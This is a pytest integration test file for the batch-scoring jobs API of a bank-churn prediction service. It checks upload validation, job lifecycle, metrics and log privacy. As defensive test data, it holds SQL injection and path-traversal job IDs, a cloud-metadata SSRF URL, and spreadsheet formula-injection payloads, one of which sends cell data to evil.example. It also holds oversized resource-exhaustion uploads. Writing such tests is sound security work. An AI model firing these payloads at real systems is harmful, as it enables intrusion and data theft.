"""The jobs API of one real `bentoml serve` with the embedded store (no Redis: `make serve`)."""

from __future__ import annotations

import csv
import io
import socket
import time

import httpx
import numpy as np
import pandas as pd
import pytest

from harness.data import customers_csv, submit_job
from harness.fleet import wait_for_job
from harness.servers import metric
from models.schema import FEATURE_NAMES, json_customer

pytestmark = pytest.mark.integration  # real `bentoml serve` processes


def _csv(rows: list[dict]) -> bytes:
    buf = io.StringIO()
    pd.DataFrame(rows).to_csv(buf, index=False)
    return buf.getvalue().encode()


def _batch(server, rows: list[dict]) -> list[float]:
    r = httpx.post(f"{server.url}/predict_batch", json={"customers": rows}, timeout=60)
    return [p["churn_probability"] for p in r.json()["predictions"]]


def test_a_job_scores_the_good_rows_and_reports_the_bad_ones_in_file_order(server, sample_rows):
    good = [{"CustomerId": 1000 + i, **json_customer(r)} for i, r in enumerate(sample_rows[:30])]
    bad = [
        {**good[0], "CustomerId": 1, "Geography": "Atlantis"},
        {**good[0], "CustomerId": 2, "Age": "old"},
        {**good[0], "CustomerId": 3, "Balance": -5},
    ]
    submitted = submit_job(server.url, _csv(good[:10] + bad + good[10:]))
    assert submitted.status_code == 202, submitted.text
    assert submitted.json()["status"] == "queued" and submitted.json()["rows_total"] == 33
    job_id = submitted.json()["job_id"]
    status = wait_for_job(server.url, job_id)
    assert (status["rows_total"], status["rows_done"], status["rows_failed"]) == (33, 33, 3)
    assert status["model_version"] and status["created_at"] <= status["updated_at"]

    result = httpx.get(f"{server.url}/jobs/{job_id}/result").json()
    assert (result["rows_scored"], result["rows_failed"]) == (30, 3)
    assert [e["row"] for e in result["errors"]] == [11, 12, 13]
    assert [e["CustomerId"] for e in result["errors"]] == ["1", "2", "3"]
    for error, field, allowed in zip(
        result["errors"], ("Geography", "Age", "Balance"), ("'France'", "an integer", "a number in [0"), strict=True
    ):
        assert field in error["error"] and allowed in error["error"], error
    assert [p["row"] for p in result["predictions"]] == [*range(1, 11), *range(14, 34)]
    assert [p["CustomerId"] for p in result["predictions"]] == [str(1000 + i) for i in range(30)]
    assert [p["churn_probability"] for p in result["predictions"]] == _batch(
        server, [json_customer(r) for r in sample_rows[:30]]
    )
    assert all(p["will_churn"] == (p["churn_probability"] >= result["threshold"]) for p in result["predictions"])

    as_csv = httpx.get(f"{server.url}/jobs/{job_id}/result", params={"format": "csv"})
    assert as_csv.status_code == 200 and as_csv.headers["content-type"].startswith("text/csv")
    table = pd.read_csv(io.BytesIO(as_csv.content), dtype={"CustomerId": str})
    assert list(table.columns) == ["row", "CustomerId", "churn_probability", "will_churn", "error"]
    assert table["row"].tolist() == list(range(1, 34))
    scored = table[table["error"].isna()]
    assert scored["churn_probability"].tolist() == [p["churn_probability"] for p in result["predictions"]]
    assert table.loc[table["error"].notna(), "row"].tolist() == [11, 12, 13]


def test_a_file_without_customer_ids_and_a_raw_csv_body(server, sample_rows):
    rows = [json_customer(r) for r in sample_rows[:5]]
    r = httpx.post(f"{server.url}/jobs", content=_csv(rows), headers={"content-type": "text/csv"})
    assert r.status_code == 202, r.text
    wait_for_job(server.url, r.json()["job_id"])
    result = httpx.get(f"{server.url}/jobs/{r.json()['job_id']}/result").json()
    assert [set(p) for p in result["predictions"]] == [{"row", "churn_probability", "will_churn"}] * 5
    assert [p["churn_probability"] for p in result["predictions"]] == _batch(server, rows)


HEADER = ",".join(FEATURE_NAMES)
ROW = "619,France,Female,42,2,0.0,1,1,1,101348.88"

REFUSED_AT_ONCE = [
    (
        "missing-columns",
        {"files": {"file": ("c.csv", b"CustomerId,Age\n1,40\n")}},
        400,
        "missing column(s): CreditScore",
    ),
    ("not-utf8", {"files": {"file": ("c.csv", f"{HEADER}\n{ROW}\n".encode("utf-16"))}}, 400, "not UTF-8"),
    ("empty-file", {"files": {"file": ("c.csv", b"")}}, 400, "missing column(s)"),
    ("header-only", {"files": {"file": ("c.csv", f"{HEADER}\n".encode())}}, 400, "no data rows"),
    ("field-over-128-KiB", {"files": {"file": ("c.csv", f"{HEADER}\n{'x' * 200_000}\n".encode())}}, 400, "unreadable"),
    ("not-a-file-part", {"data": {"file": "http://169.254.169.254/latest/meta-data/"}}, 415, "multipart/form-data"),
    (
        "plain-field-instead-of-file",
        {"files": {"other": ("a.csv", b"x")}, "data": {"file": "https://example.com/c.csv"}},
        400,
        "file part named 'file'",
    ),
    (
        "no-boundary",
        {"content": b"garbage", "headers": {"content-type": "multipart/form-data"}},
        400,
        "malformed multipart",
    ),
    ("json-body", {"json": {"file": "c.csv"}}, 415, "multipart/form-data"),
]


@pytest.mark.parametrize(
    ("kwargs", "status", "message"), [c[1:] for c in REFUSED_AT_ONCE], ids=[c[0] for c in REFUSED_AT_ONCE]
)
def test_files_the_service_cannot_score_are_refused_before_a_job_exists(server, kwargs, status, message):
    r = httpx.post(f"{server.url}/jobs", timeout=30, **kwargs)
    assert r.status_code == status, r.text[:500]
    assert message in r.json()["error"], r.json()


def test_an_upload_declared_over_the_size_limit_is_refused_before_it_is_read(server):
    with socket.create_connection(("127.0.0.1", server.port), timeout=10) as conn:
        conn.sendall(b"POST /jobs HTTP/1.1\r\nHost: x\r\nContent-Type: text/csv\r\nContent-Length: 1000000000\r\n\r\n")
        answer = b""
        while b"}" not in answer and (chunk := conn.recv(65536)):  # the head, then the JSON body
            answer += chunk
    assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
    assert b"larger than 67108864 bytes" in answer


def test_a_file_over_the_row_limit_is_refused_with_the_limit(server):
    r = submit_job(server.url, customers_csv(200_001))
    assert r.status_code == 413 and "200001 data rows" in r.json()["error"] and "200000" in r.json()["error"]


@pytest.mark.parametrize("job_id", ["nope", "' OR 1=1 --", "..%2F..%2Fetc%2Fpasswd", "x" * 10_000, "%00", "A" * 22])
def test_unknown_and_hostile_job_ids_are_404(server, job_id):
    for path in (f"/jobs/{job_id}", f"/jobs/{job_id}/result"):
        r = httpx.get(f"{server.url}{path}")
        assert r.status_code == 404 and r.json()["error"], r.text[:300]
    assert httpx.delete(f"{server.url}/jobs/{job_id}").status_code == 404


@pytest.mark.parametrize(
    ("method", "path", "allowed"),
    [
        ("GET", "/jobs", "POST"),
        ("PUT", "/jobs/" + "A" * 22, "GET, DELETE"),
        ("POST", "/jobs/" + "A" * 22 + "/result", "GET"),
    ],
)
def test_wrong_methods_are_405_with_allow(server, method, path, allowed):
    r = httpx.request(method, f"{server.url}{path}")
    assert r.status_code == 405 and r.headers["allow"] == allowed
    assert httpx.get(f"{server.url}/jobs/a/b/c").status_code == 404


def test_a_cancelled_job_stops_and_its_result_is_never_served(server):
    job_id = submit_job(server.url, customers_csv(200_000)).json()["job_id"]
    early = httpx.get(f"{server.url}/jobs/{job_id}/result")
    assert early.status_code == 409 and early.json()["status"] in ("queued", "running"), early.text
    cancelled = httpx.delete(f"{server.url}/jobs/{job_id}")
    assert cancelled.status_code == 200 and cancelled.json()["status"] == "cancelled", cancelled.text
    time.sleep(1.5)  # past the chunk that may have been in flight
    done = httpx.get(f"{server.url}/jobs/{job_id}").json()
    time.sleep(1.0)
    later = httpx.get(f"{server.url}/jobs/{job_id}").json()
    assert later["status"] == "cancelled" and later["rows_done"] == done["rows_done"] < 200_000, (done, later)
    assert httpx.get(f"{server.url}/jobs/{job_id}/result").status_code == 409
    # DELETE of the cancelled (finished) job erases what is left of it
    again = httpx.delete(f"{server.url}/jobs/{job_id}")
    assert again.status_code == 200 and again.json() == {"job_id": job_id, "erased": True, "status": "cancelled"}
    assert httpx.get(f"{server.url}/jobs/{job_id}").status_code == 404


def test_delete_of_a_finished_job_erases_it_and_its_results(server, sample_rows):
    job_id = submit_job(server.url, _csv([json_customer(r) for r in sample_rows[:3]])).json()["job_id"]
    wait_for_job(server.url, job_id)
    assert httpx.get(f"{server.url}/jobs/{job_id}/result").status_code == 200
    r = httpx.delete(f"{server.url}/jobs/{job_id}")
    assert r.status_code == 200 and r.json() == {"job_id": job_id, "erased": True, "status": "completed"}
    for path in (f"/jobs/{job_id}", f"/jobs/{job_id}/result", f"/jobs/{job_id}/result?format=csv"):
        assert httpx.get(f"{server.url}{path}").status_code == 404, path
    assert httpx.delete(f"{server.url}/jobs/{job_id}").status_code == 404


def test_jobs_are_counted_and_documented(server, sample_rows):
    before = httpx.get(f"{server.url}/metrics").text
    job_id = submit_job(server.url, _csv([json_customer(r) for r in sample_rows[:7]])).json()["job_id"]
    wait_for_job(server.url, job_id)
    after = httpx.get(f"{server.url}/metrics").text
    for name, labels, delta in (
        ("bank_churn_jobs_total", {"event": "submitted"}, 1),
        ("bank_churn_jobs_total", {"event": "completed"}, 1),
        ("bank_churn_job_rows_total", {"outcome": "scored"}, 7),
    ):
        assert metric(after, name, 0, **labels) - metric(before, name, 0, **labels) == delta, name
    assert metric(after, "bank_churn_job_duration_seconds_count") >= 1
    assert metric(after, "bank_churn_job_store_up", backend="embedded") == 1
    spec = httpx.get(f"{server.url}/docs.json").json()
    assert {"/jobs", "/jobs/{job_id}", "/jobs/{job_id}/result"} <= set(spec["paths"])
    assert set(spec["paths"]["/jobs/{job_id}"]) == {"get", "delete"}
    assert np.isfinite(metric(after, "bank_churn_jobs_running_here"))


# ------------------------------------------------------------------ hostile uploads

ROW_BYTES = ",".join(["619", "France", "Female", "42", "2", "0.0", "1", "1", "1", "101348.88"]).encode()
HOSTILE = [
    ("commas", lambda: b"," * (48 << 20), "the header (line 1) is longer than 1,048,576 characters"),
    ("million-column-header", lambda: b",".join(b"c%d" % i for i in range(1_000_000)), "the header (line 1) is longer"),
    ("60-MiB-field", lambda: HEADER.encode() + b"\n" + b"7" * (60 << 20) + b"\n", "data row 1 (line 2) is longer"),
    ("unbalanced-quotes", lambda: HEADER.encode() + b"\n" + ROW_BYTES + b'\n"' + b"x,y\n" * (10 << 20), "131,072"),
]


@pytest.mark.parametrize("media", ["multipart", "text/csv"])
@pytest.mark.parametrize(("make", "message"), [c[1:] for c in HOSTILE], ids=[c[0] for c in HOSTILE])
def test_hostile_uploads_get_a_400_naming_the_problem_and_the_server_lives(server, make, message, media):
    data = make()
    if media == "multipart":
        r = submit_job(server.url, data, timeout=120)
    else:
        r = httpx.post(f"{server.url}/jobs", content=data, headers={"content-type": "text/csv"}, timeout=120)
    assert r.status_code == 400 and message in r.json()["error"], r.text[:300]
    assert server.proc.poll() is None
    assert httpx.post(f"{server.url}/predict", json={"customer": json_customer(EXAMPLE_ROW)}).status_code == 200


EXAMPLE_ROW = dict(zip(FEATURE_NAMES, [619, "France", "Female", 42, 2, 0.0, 1, 1, 1, 101348.88], strict=True))


def test_uploads_beyond_the_concurrent_limit_get_503_at_once(server):
    # Two uploads in progress (bodies trickling in) hold both slots of the default limit...
    holders = []
    for _ in range(2):
        conn = socket.create_connection(("127.0.0.1", server.port), timeout=10)
        conn.sendall(b"POST /jobs HTTP/1.1\r\nHost: x\r\nContent-Type: text/csv\r\nContent-Length: 100000\r\n\r\n")
        conn.sendall(HEADER.encode() + b"\n")
        holders.append(conn)
    time.sleep(0.5)
    try:
        started = time.monotonic()
        r = submit_job(server.url, _csv([EXAMPLE_ROW]))
        waited = time.monotonic() - started
        assert r.status_code == 503 and r.headers["retry-after"], r.text
        assert "BANKCHURN_MAX_CONCURRENT_UPLOADS=2" in r.json()["error"] and waited < 2
    finally:
        for conn in holders:
            conn.close()
    time.sleep(0.5)  # the held uploads end (client gone) and give their slots back
    assert submit_job(server.url, _csv([EXAMPLE_ROW])).status_code == 202


def test_formula_cells_are_neutralised_in_the_csv_result_and_json_is_unchanged(server):
    rows = [
        {"CustomerId": '=HYPERLINK("http://evil.example/?"&A1,"click")', **EXAMPLE_ROW},
        {"CustomerId": "+cmd|' /C calc'!A0", **EXAMPLE_ROW, "Age": "=1+1"},
        {"CustomerId": "@SUM(1,2)", **EXAMPLE_ROW},
        {"CustomerId": "-5", **EXAMPLE_ROW},
        {"CustomerId": "15634602", **EXAMPLE_ROW},
    ]
    job_id = submit_job(server.url, _csv(rows)).json()["job_id"]
    wait_for_job(server.url, job_id)
    table = list(csv.reader(io.StringIO(httpx.get(f"{server.url}/jobs/{job_id}/result?format=csv").text)))
    ids = [line[1] for line in table[1:]]
    assert ids == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        "'+cmd|' /C calc'!A0",
        "'@SUM(1,2)",
        "'-5",
        "15634602",
    ]
    assert table[2][4].startswith("Age: ") and "unable to parse '=1+1'" in table[2][4]
    result = httpx.get(f"{server.url}/jobs/{job_id}/result").json()
    assert [p["CustomerId"] for p in result["predictions"]] == [rows[i]["CustomerId"] for i in (0, 2, 3, 4)]


def test_job_ids_never_reach_the_log(server, sample_rows):
    job_id = submit_job(server.url, _csv([json_customer(r) for r in sample_rows[:2]])).json()["job_id"]
    status = wait_for_job(server.url, job_id)
    unknown = "B" * 22
    # 4xx answers are in the access log by default (BANKCHURN_ACCESS_LOG=errors)
    assert httpx.get(f"{server.url}/jobs/{unknown}").status_code == 404
    assert httpx.get(f"{server.url}/jobs/{job_id}/result?format=xml").status_code == 400
    assert httpx.delete(f"{server.url}/jobs/{job_id}").status_code == 200
    time.sleep(0.5)
    log = server.log()
    assert job_id not in log and unknown not in log
    assert f"/jobs/ref:{status['ref']}/result" in log, "the access log names the job by its ref"
    assert f"job {status['ref']} queued" in log and f"job {status['ref']} erased" in log
